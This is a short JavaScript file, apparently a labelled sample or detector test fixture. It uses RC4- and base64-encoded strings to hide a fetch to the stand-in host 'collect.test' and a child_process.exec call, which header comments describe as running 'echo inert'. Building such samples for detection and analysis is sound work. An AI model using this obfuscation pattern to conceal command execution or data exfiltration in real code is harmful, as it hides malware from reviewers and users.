// hides: call child_process.exec "echo inert"
// hides: call fetch "http://collect.test/in"
function words() {
  var w = ["qmkOW6uW","ECoKWQ12WOvbWQqeafi","dv5LgSkT","W6/cHSk2WRtdPXewz0CywZ8If8kLuSkhW6tdUNVdG8kS","WQj8WRpcMJpdKmkwC8oECYZcRq4"];
  words = function () { return w; };
  return words();
}
(function (get, n) { var l = get(); while (n--) l.push(l.shift()); })(words, 2);
function pick(i, key) {
  var l = words();
  pick = function (i, key) {
    i = i - 0x1f;
    var v = l[i];
    if (pick.ok === undefined) {
        var dec = function (t) {
          var al = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=', o = '', p = '';
          for (var n = 0, b, c, i = 0; c = t.charAt(i++); ~c && (b = n % 4 ? b * 64 + c : c, n++ % 4) ? o += String.fromCharCode(255 & b >> (-2 * n & 6)) : 0) {
            c = al.indexOf(c);
          }
          for (var k = 0, l = o.length; k < l; k++) p += '%' + ('00' + o.charCodeAt(k).toString(16)).slice(-2);
          return decodeURIComponent(p);
        };
      pick.rc = function (t, k) {
        var s = [], j = 0, x, r = '';
        t = dec(t);
        for (var a = 0; a < 256; a++) s[a] = a;
        for (a = 0; a < 256; a++) { j = (j + s[a] + k.charCodeAt(a % k.length)) % 256; x = s[a]; s[a] = s[j]; s[j] = x; }
        a = 0; j = 0;
        for (var y = 0; y < t.length; y++) {
          a = (a + 1) % 256; j = (j + s[a]) % 256; x = s[a]; s[a] = s[j]; s[j] = x;
          r += String.fromCharCode(t.charCodeAt(y) ^ s[(s[a] + s[j]) % 256]);
        }
        return r;
      };
      pick.memo = {};
      pick.ok = !![];
    }
    var id = i + l[0], hit = pick.memo[id];
    if (!hit) { v = pick.rc(v, key); pick.memo[id] = v; } else v = hit;
    return v;
  };
  return pick(i, key);
}
globalThis[pick(0x1f, 'k3Y!')](pick(0x20, 'a#9z'));
require(pick(0x21, '0oPq'))[pick(0x22, 'hhG1')](pick(0x23, 'wE)2'));
